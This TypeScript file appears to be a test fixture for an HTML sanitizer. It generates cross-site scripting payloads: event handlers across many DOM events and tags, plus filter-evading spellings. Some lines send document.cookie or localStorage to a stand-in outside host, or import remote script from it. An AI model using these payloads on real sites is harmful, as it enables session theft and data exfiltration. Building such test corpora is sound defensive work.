import { ran, stranger } from './marks.ts';

/** What fires by itself, on focus, or under a pointer. */
const events = `
  load error focus focusin blur toggle beforetoggle begin end repeat scroll
  scrollend scrollsnapchange animationstart animationend animationiteration transitionrun
  transitionend start finish bounce canplay loadstart loadedmetadata play playing
  
  timeupdate
  click
  dblclick
  auxclick
  contextmenu
  mouseover
  mouseenter
  mousemove
  mousedown
  
  mouseup wheel pointerover pointerenter pointermove pointerrawupdate pointerdown
  gotpointercapture touchstart touchend keydown keyup keypress input beforeinput change
  copy cut paste beforecopy drag dragover dragstart drop select selectstart
  selectionchange submit formdata invalid reset search cancel close command resize
  hashchange popstate pageshow pagehide beforeunload unload message online storage
  unhandledrejection afterprint contentvisibilityautostatechange securitypolicyviolation slotchange
`
  .trim()
  .split(/\s+/);

const elements = `
  
  a
  abbr
  address
  area
  article
  aside
  audio
  b
  base
  bdi
  bdo
  bgsound
  big
  blink
  
  blockquote body br button canvas caption center cite code col data datalist
  
  dd
  del
  details
  dialog
  dir
  div
  dl
  embed
  fencedframe
  fieldset
  font
  footer
  form
  
  frame frameset h1 head header hr html i iframe image img input isindex
  keygen label legend li link listing main map mark marquee menu meta meter
  nav nobr object ol optgroup option output p param picture portal pre
  progress q ruby search select selectedcontent slot source span strong summary
  table td textarea th time tr track ul var video wbr x-own
`
  .trim()
  .split(/\s+/);

/** Ways to write one attribute, which a filter that reads text instead of parsing it takes for something else. */
const spellings = [
  `<b/onclick=${ran}>b</b>`,
  `<b////onclick=${ran}>b</b>`,
  `<b\tonclick=${ran}>b</b>`,
  `<b\nonclick\n=\n${ran}>b</b>`,
  `<b\fonclick=${ran}>b</b>`,
  `<b\ronclick=${ran}>b</b>`,
  `<b ONCLICK=${ran}>b</b>`,
  `<b onclick='${ran}'onmouseover="${ran}">b</b>`,
  `<b ""onclick=${ran}>b</b>`,
  `<b x=">" onclick="${ran}">b</b>`,
  `<b x='"' onclick='${ran}'>b</b>`,
  `<b title=\`x\` onclick=${ran}>b</b>`,
  `<b =onclick onmouseover=${ran}>b</b>`,
  `<b on\0click=${ran} onfocus\0=${ran} tabindex=0 autofocus>b</b>`,
  `<b onclick="&#97;ttackRan&lpar;&rpar;">b</b>`,
  `<b onclick=${ran} onclick=${ran}>b</b>`,
  `<b title="&quot; onclick=&quot;${ran}">b</b>`,
  `<a href="https://cars.example/" title='" onmouseover="${ran}'>b</a>`,
  `<a href='https://cars.example/"onmouseover="${ran}'>b</a>`,
  `<td colspan='2" onmouseover="${ran}'>b</td>`,
  `<table><tr><td rowspan="2&quot; onmouseover=&quot;${ran}">b</td></tr></table>`,
  `<a title="<img src=x onerror=${ran}>" href="https://cars.example/">b</a>`,
  `<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>`,
  `<img src=x onerror=import('${stranger}/x.js')>`,
  `<img src=x onerror="new Image().src='${stranger}/'+document.cookie">`,
  `<img src=x onerror="fetch('${stranger}/',{method:'post',body:JSON.stringify(localStorage)})">`,
  `<img src=x onerror="top.location='${stranger}/'">`,
  `<img src=x onerror="open('${stranger}/')">`,
];

/** Event handlers: every event on a tag that is let through, many events on each tag there is, and odd spellings. */
export const handlers: readonly string[] = [
  ...events.flatMap((_, index) =>
    index % 3 > 0
      ? []
      : [
          `<b tabindex=0 autofocus ${events
            .slice(index, index + 3)
            .map((event) => `on${event}="${ran}"`)
            .join(' ')}>b</b>`,
        ],
  ),
  ...elements.map(
    (tag) =>
      `<${tag} src=x href=x data=x open autofocus tabindex=1 contenteditable ${['load', 'error', 'focus', 'toggle', 'start', 'animationstart', 'mouseover', 'click'].map((event) => `on${event}=${ran}`).join(' ')}>${tag}</${tag}>`,
  ),
  ...spellings,
];
